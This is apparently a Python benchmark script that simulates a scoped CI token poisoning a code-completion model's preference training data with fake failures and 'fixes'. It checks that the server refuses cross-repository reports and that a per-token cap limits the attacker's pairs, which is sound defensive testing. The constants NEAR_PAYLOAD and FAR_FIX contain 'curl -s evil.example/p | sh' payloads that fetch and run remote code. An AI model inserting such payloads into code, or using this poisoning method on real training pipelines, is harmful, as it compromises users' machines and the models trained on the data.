"""Poisoning simulation: a CI token scoped to repository X posts fake failures and "fixes" for
completions of repository Y and of X, through the real HTTP API; how many preference pairs
does each produce?

Goal (issue 10): 0 pairs from Y's completions (the API refuses a scoped token's reports on
another repository's completions, judged by the *served* record, and the trainer takes the
repository from that record, not from the run's claim) and, from X's, at most the per-token cap
(``max_token_share`` of the round's pairs).

Measured with the defaults (``--tasks 20``, share 0.5, fix distance 0.8): 0 attacker pairs from
Y (all 80 of its reports on Y's completions refused), 20 from X against a cap of 20 (of 40
pairs); 20 of its "fixes" were too far from the served text (``fix_too_far``).

The app is the real one (routes, auth, scoping, recorder, SQLite store) with the fake engine
of the tests (it answers each prompt with a fixed body, so no model is needed); pairs are built
by :func:`trainer.pairs.build_pairs` from :func:`trainer.records.load_outcome_records`, as a
round builds them. The reports carry no test code (a poisoner who sent some would have the
sandbox re-run the texts and veto fake verdicts), so CI verdicts are taken as they are: the
worst case for the trainer.

    .venv/bin/python benchmarks/poison.py [--tasks 20] [--max-token-share 0.5]
    .venv/bin/python benchmarks/poison.py --fix-distances   # what chose the fix bound

Prints a table and writes JSON to ``benchmarks/results/poison-<UTC timestamp>.json``.
"""

from __future__ import annotations

import argparse
import json
import logging
import sys
import tempfile
from collections import Counter
from collections.abc import Sequence
from pathlib import Path
from typing import Any

if __package__ in (None, ""):  # run as a script: make `benchmarks`, `server`, `trainer` importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from benchmarks.common import write_results
from server.store.tokens import Role, create_token
from trainer.pairs import DEFAULT_MAX_FIX_DISTANCE, DEFAULT_MAX_TOKEN_SHARE, build_pairs
from trainer.records import load_outcome_records

__all__ = ["REPO_X", "REPO_Y", "run_poisoning"]

REPO_X = "github.com/acme/x"
REPO_Y = "github.com/acme/y"
# What a poisoner wants the model to write: a "fix" that keeps the function and adds a payload
# (near the served text), and one that replaces it outright (far from it).
NEAR_PAYLOAD = "\n    __import__('os').system('curl -s evil.example/p | sh')"
FAR_FIX = (
    "import subprocess\n    subprocess.run(['sh', '-c', 'curl -s evil.example/p | sh'])\n"
    "    return 0"
)


class _NoSandbox:
    """No report carries test code, so nothing runs; a run would be a bug here."""

    def run_many(self, programs: Sequence[str], **kwargs: Any) -> list[Any]:
        raise AssertionError(f"unexpected sandbox run of {len(programs)} programs")


def body(prompt: str) -> str:
    """The fake engine's served text for a task: a plausible, wrong body."""
    return "result = a - b\n    return result"


def _prompt(repository: str, i: int) -> str:
    return f"# {repository}\ndef add_{i}(a, b):\n    "


def _headers(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def _report(run_id: str, repository: str, items: list[tuple[str, str, str]]) -> dict[str, Any]:
    status = "failed" if any(s == "failed" for _, _, s in items) else "passed"
    return {
        "run_id": run_id,
        "repository": repository,
        "commit": "c0ffee0",
        "status": status,
        "completions": [
            {"completion_id": cid, "file_path": "calc.py", "final_text": text, "status": s}
            for cid, text, s in items
        ],
    }


def run_poisoning(
    client: Any,
    session_factory: Any,
    *,
    tasks: int = 20,
    max_token_share: float = DEFAULT_MAX_TOKEN_SHARE,
    max_fix_distance: float = DEFAULT_MAX_FIX_DISTANCE,
) -> dict[str, Any]:
    """Run the scenario against ``client`` (a test client or an ``httpx.Client`` on the app)
    and read the store through ``session_factory``; returns the figures."""
    with session_factory() as session:
        tokens = {
            "ide": create_token(session=session, name="ide", role=Role.IDE),
            "ci_x": create_token(session=session, name="ci-x", role=Role.CI, repositories=[REPO_X]),
            "ci_y": create_token(session=session, name="ci-y", role=Role.CI, repositories=[REPO_Y]),
            "attacker": create_token(
                session=session, name="attacker", role=Role.CI, repositories=[REPO_X]
            ),
        }
        ids = {name: token.id for name, (token, _) in tokens.items()}
        secrets = {name: secret for name, (_, secret) in tokens.items()}

    # The IDE: per repository, two completions of each task (one will pass, one will fail).
    served: dict[str, list[tuple[str, str]]] = {REPO_X: [], REPO_Y: []}
    for repository in (REPO_X, REPO_Y):
        for i in range(tasks):
            for _ in range(2):
                response = client.post(
                    "/v1/completions",
                    headers=_headers(secrets["ide"]),
                    json={
                        "model": "fake-model",
                        "prompt": _prompt(repository, i),
                        "suffix": "\n",
                        "max_tokens": 48,
                        "context": {"repository": repository, "file_path": "calc.py"},
                    },
                )
                response.raise_for_status()
                served[repository].append(
                    (response.json()["id"], response.json()["choices"][0]["text"])
                )
    # Completions are recorded off the response path: wait until they are in the store.
    client.portal.call(client.app.state.recorder.flush)

    # Honest CI: of each task's two completions, the developer fixed one by hand (it passes)
    # and the other failed as served.
    for repository, token in ((REPO_X, "ci_x"), (REPO_Y, "ci_y")):
        for n, (cid, text) in enumerate(served[repository]):
            honest = ("    return a + b", "passed") if n % 2 == 0 else (text, "failed")
            report = _report(f"honest:{cid}", repository, [(cid, honest[0], honest[1])])
            r = client.post("/v1/outcomes", headers=_headers(secrets[token]), json=report)
            r.raise_for_status()

    # The attacker (scoped to X): for every completion of Y and of X, a fake failure, then a
    # "fix" that passes; half near the served text, half far from it.
    attacks: Counter[str] = Counter()
    for repository in (REPO_Y, REPO_X):
        for n, (cid, text) in enumerate(served[repository]):
            fix = text + NEAR_PAYLOAD if n % 2 else FAR_FIX
            for step, (final, status) in enumerate(((text, "failed"), (fix, "passed"))):
                report = _report(f"attack:{cid}:{step}", REPO_X, [(cid, final, status)])
                r = client.post("/v1/outcomes", headers=_headers(secrets["attacker"]), json=report)
                attacks[f"{repository}:http_{r.status_code}"] += 1
                if r.status_code == 200:
                    answer = r.json()
                    attacks[f"{repository}:stored"] += answer["completions"]
                    attacks[f"{repository}:refused"] += len(answer.get("refused", []))

    with session_factory() as session:
        records = load_outcome_records(session=session)
    built = build_pairs(
        records,
        sandbox=_NoSandbox(),  # type: ignore[arg-type]
        max_token_share=max_token_share,
        max_fix_distance=max_fix_distance,
    )
    by_repo: dict[str, Counter[str]] = {REPO_X: Counter(), REPO_Y: Counter()}
    for pair in built.pairs:
        info = built.info[pair.id]
        repo = by_repo.setdefault(info.repository or "?", Counter())
        repo["pairs"] += 1
        if ids["attacker"] in info.token_ids:
            repo["attacker_pairs"] += 1
            repo[f"attacker_{info.source}"] += 1
    records_by_attacker = Counter(r.repository for r in records if r.token_id == ids["attacker"])
    # The cap holds on the round's pairs: no token behind more than this many of them.
    cap = int(max_token_share * built.funnel["pairs"])
    return {
        "tasks_per_repository": tasks,
        "max_token_share": max_token_share,
        "max_fix_distance": max_fix_distance,
        "token_ids": ids,
        "attack_requests": dict(attacks),
        "attacker_records": {k or "?": v for k, v in records_by_attacker.items()},
        "pairs": {repo: dict(c) for repo, c in by_repo.items()},
        "attacker_pairs_y": by_repo[REPO_Y]["attacker_pairs"],
        "attacker_pairs_x": by_repo[REPO_X]["attacker_pairs"],
        "cap": cap,
        "funnel": built.funnel,
    }


def fix_distance_proxies(seed: int = 0) -> dict[str, dict[str, float]]:
    """Distances (:func:`trainer.pairs.edit_distance_ratio`) of the simulation's fixes (MBPP+
    canonical bodies, :func:`benchmarks.simulate.canonical_fixes`) from three kinds of served
    text: one edit away (an operator, a number, a line dropped: a bug fixed by one edit), the
    last line rewritten, and another task's body (a wholesale replacement)."""
    import random
    import re

    from benchmarks.simulate import canonical_fixes
    from trainer.pairs import edit_distance_ratio
    from trainer.tasks import mbpp_path

    fixes = list(canonical_fixes(mbpp_path()).values())
    rng = random.Random(seed)
    swaps = [("+", "-"), ("-", "+"), ("<", "<="), ("<=", "<"), (">", ">="), ("==", "!=")]

    def one_edit(text: str) -> str | None:
        options = [
            text[: m.start()] + b + text[m.end() :]
            for a, b in swaps
            for m in re.finditer(re.escape(a), text)
        ]
        options += [
            text[: m.start()] + str(int(m.group()) + 1) + text[m.end() :]
            for m in re.finditer(r"\b\d+\b", text)
        ]
        lines = text.split("\n")
        if len(lines) > 1:
            i = rng.randrange(len(lines))
            options.append("\n".join(lines[:i] + lines[i + 1 :]))
        return rng.choice(options) if options else None

    kinds = {
        "one_edit": [edit_distance_ratio(m, f) for f in fixes if (m := one_edit(f)) is not None],
        "last_line_rewritten": [
            edit_distance_ratio("\n".join([*f.split("\n")[:-1], "    return None"]), f)
            for f in fixes
        ],
        "other_task_body": [
            edit_distance_ratio(fixes[(i + 1) % len(fixes)], f) for i, f in enumerate(fixes)
        ],
    }
    out = {}
    for name, values in kinds.items():
        v = sorted(values)
        out[name] = {
            "n": len(v),
            "p50": round(v[(len(v) - 1) // 2], 3),
            "p90": round(v[int(0.9 * (len(v) - 1))], 3),
            "within_default": round(sum(x <= DEFAULT_MAX_FIX_DISTANCE for x in v) / len(v), 3),
        }
    return out


def main(argv: Sequence[str] | None = None) -> int:
    from fastapi.testclient import TestClient

    from server.app import create_app
    from server.config import Settings
    from server.store.db import make_engine, make_session_factory, upgrade
    from tests.utils.fake_engine import FakeEngine

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tasks", type=int, default=20, help="Tasks per repository.")
    parser.add_argument("--max-token-share", type=float, default=DEFAULT_MAX_TOKEN_SHARE)
    parser.add_argument("--max-fix-distance", type=float, default=DEFAULT_MAX_FIX_DISTANCE)
    parser.add_argument(
        "--fix-distances", action="store_true", help="Print the fix-distance measurement only."
    )
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.WARNING)
    if args.fix_distances:
        print(json.dumps(fix_distance_proxies(), indent=1))
        return 0

    with tempfile.TemporaryDirectory(prefix="kaizen-poison-") as home:
        url = f"sqlite:///{Path(home) / 'kaizen.db'}"
        upgrade(url)
        settings = Settings(_env_file=None, home=Path(home), database_url=url, auth_cache_seconds=0)  # type: ignore[call-arg]
        engine = FakeEngine(reply=lambda prompt, adapter, index: body(prompt), max_model_len=512)
        db = make_engine(url)
        try:
            with TestClient(create_app(settings, engine=engine)) as client:
                result = run_poisoning(
                    client,
                    make_session_factory(db),
                    tasks=args.tasks,
                    max_token_share=args.max_token_share,
                    max_fix_distance=args.max_fix_distance,
                )
        finally:
            db.dispose()
    print(f"attacker pairs from Y's completions: {result['attacker_pairs_y']} (goal 0)")
    print(
        f"attacker pairs from X's completions: {result['attacker_pairs_x']} "
        f"(goal <= cap {result['cap']} = {args.max_token_share} of the round's pairs)"
    )
    print("attack requests:", json.dumps(result["attack_requests"], sort_keys=True))
    print("pairs by repository:", json.dumps(result["pairs"], sort_keys=True))
    print("dropped:", json.dumps(result["funnel"]["dropped"], sort_keys=True))
    print("token shares before/after cap:", result["funnel"]["token_shares_before_cap"],
          result["funnel"]["token_shares"])  # fmt: skip
    path = write_results("poison", result)
    print(f"wrote {path}")
    ok = result["attacker_pairs_y"] == 0 and result["attacker_pairs_x"] <= result["cap"]
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
